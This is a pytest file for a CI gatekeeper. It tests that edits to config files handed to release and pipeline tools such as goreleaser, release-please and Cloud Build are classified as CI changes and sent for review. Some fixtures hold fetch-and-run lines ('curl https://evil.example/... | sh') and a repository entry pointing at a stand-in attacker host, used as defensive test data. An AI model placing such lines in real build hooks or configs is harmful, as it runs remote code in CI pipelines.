"""Issue 12, `--tree`: the settings file a CI step hands a release or pipeline tool by path decides what CI does.

`goreleaser release --config tools/release.yaml` builds, signs and publishes what that file says (its `hooks` run
commands); `release-please --config-file` and `--manifest-file` decide the releases CI cuts; `gcloud builds submit
--config` is the Cloud Build pipeline itself; `catalog-cd ... --config` lists the external repositories whose tasks
CI publishes (label round 44's one `ci` miss). Kept under a name and folder no rule knows, each such file was `src` or
`other` and a change editing it alone was allowed (`gate --tree` exit 0 on d8bd7b1). Now each is `ci`
(`ci.context.ci-run`, ciconfigs.py), from a workflow step or a script a step runs. A linter's or formatter's settings
(`eslint -c`, `ruff --config`, `golangci-lint --config`, chart-testing's `ct --config`, `yamllint -c`) stay what they
were: the measured scan over the labelled sets (docs/classification.md, "Settings a CI step hands a tool") found
those labelled `other`, and reading every `--config` would have made them `ci`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from citools import release_repo
from incli import tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify.ciconfigs import named

# name: (the step's command, the file it hands the tool, the file's base text, its new text)
HANDED: dict[str, tuple[str, str, str, str]] = {
    "goreleaser": ("goreleaser release --clean --config tools/release.yaml", "tools/release.yaml",
                   "builds:\n- main: ./cmd/app\n", "before:\n  hooks:\n  - curl https://evil.example/x | sh\n"),
    "release-please": ("npx release-please release-pr --config-file=tools/rp.json --manifest-file tools/rpm.json",
                       "tools/rp.json", '{"packages": {".": {}}}\n', '{"packages": {"secrets": {}}}\n'),
    "release-please manifest": ("npx release-please release-pr --config-file=tools/rp.json --manifest-file "
                                "tools/rpm.json", "tools/rpm.json", '{".": "1.0.0"}\n', '{".": "9.0.0"}\n'),
    "cloud build": ("gcloud builds submit --config=tools/pipeline.yaml .", "tools/pipeline.yaml",
                    "substitutions:\n  _ENV: test\n", "substitutions:\n  _ENV: prod\n"),
    "catalog-cd": ('echo "matrix=$(catalog-cd catalog externals --config ./experimental/externals.yaml)" >> out',
                   "experimental/externals.yaml", "repositories: []\n",
                   "repositories:\n- name: evil\n  url: https://evil.example/tasks\n"),
}
# look-alikes: a linter's or formatter's settings (the scan's `other` labels), left as they were
LINTERS: dict[str, tuple[str, str]] = {
    "eslint": ("npx eslint -c tools/eslint.json src", "tools/eslint.json"),
    "ruff": ("ruff check --config tools/ruff.toml .", "tools/ruff.toml"),
    "golangci-lint": ("golangci-lint run --config tools/golangci.yml", "tools/golangci.yml"),
    "chart-testing": ("ct lint --config tools/ct.yaml", "tools/ct.yaml"),
    "yamllint": ("yamllint -c tools/yamllint.yml .", "tools/yamllint.yml"),
}


@each_case("how, case", [(how, case) for how in ["step", "script"] for case in sorted(HANDED)])
def test_a_file_ci_hands_a_release_or_pipeline_tool_is_ci(tmp_path: Path, how: str, case: str) -> None:
    """Each file edited alone: was src/other and allowed (exit 0) on d8bd7b1; now ci and reviewed."""
    command, path, before, after = HANDED[case]
    root, first, last = release_repo(tmp_path, how, {path: after}, [command], {"README.md": "x\n", path: before})
    found = tree_classify(root, first, last)
    assert found[path]["bucket"] == "ci", found
    assert found[path]["rule"] == "ci.context.ci-run", found
    code, decision = tree_gate(root, first, last)
    assert code == 3 and decision["outcome"] == "review", decision


@pytest.mark.parametrize("how", ["step", "script"])
def test_a_linters_settings_a_step_hands_it_stay_as_they_were(tmp_path: Path, how: str) -> None:
    """The look-alikes: every linter's settings file, all edited in one change, none ci."""
    base = {"README.md": "x\n", **{path: "a: 1\n" for _c, path in LINTERS.values()}}
    edited = {path: "a: 2\n" for _c, path in LINTERS.values()}
    root, first, last = release_repo(tmp_path, how, edited, [c for c, _p in LINTERS.values()], base)
    found = tree_classify(root, first, last)
    assert {path: found[path]["bucket"] for path in edited} != {}
    assert all(found[path]["bucket"] != "ci" for path in edited), found


def test_a_hook_the_handed_settings_run_is_ci_too(tmp_path: Path) -> None:
    """The settings are walked as what CI runs: the script a goreleaser hook runs is ci as well."""
    base = {"README.md": "x\n", "tools/release.yaml": "before:\n  hooks:\n  - ./tools/gen.sh\n",
            "tools/gen.sh": "echo gen\n"}
    root, first, last = release_repo(tmp_path, "step", {"tools/gen.sh": "curl https://evil.example | sh\n"},
                              ["goreleaser release -f tools/release.yaml"], base)
    assert tree_classify(root, first, last)["tools/gen.sh"]["bucket"] == "ci"


@each_case(("line", "expected"), [
    ("goreleaser release --config tools/r.yaml", ["tools/r.yaml"]),
    ("goreleaser build -f=.goreleaser-nightly.yml --snapshot", [".goreleaser-nightly.yml"]),
    ("  - run: npx release-please github-release --config-file a.json --manifest-file=b.json", ["a.json", "b.json"]),
    ("echo $(catalog-cd catalog externals --config ./ext.yaml)", ["ext.yaml"]),
    ("gcloud builds submit --config deploy/cb.yaml .", ["deploy/cb.yaml"]),
    ("sudo goreleaser release --config ${{ inputs.cfg }}", []),  # a wholly variable path names nothing here
    ("gcloud run deploy --config x.yaml", []),  # not Cloud Build's pipeline
    ("eslint -c .eslintrc.json && ruff --config ruff.toml", []),
    ("golangci-lint run --config .golangci.yml; ct lint --config ct.yaml", []),
    ("# goreleaser release --config commented.yaml", []),
])
def test_named(line: str, expected: list[str]) -> None:
    assert named(line) == expected
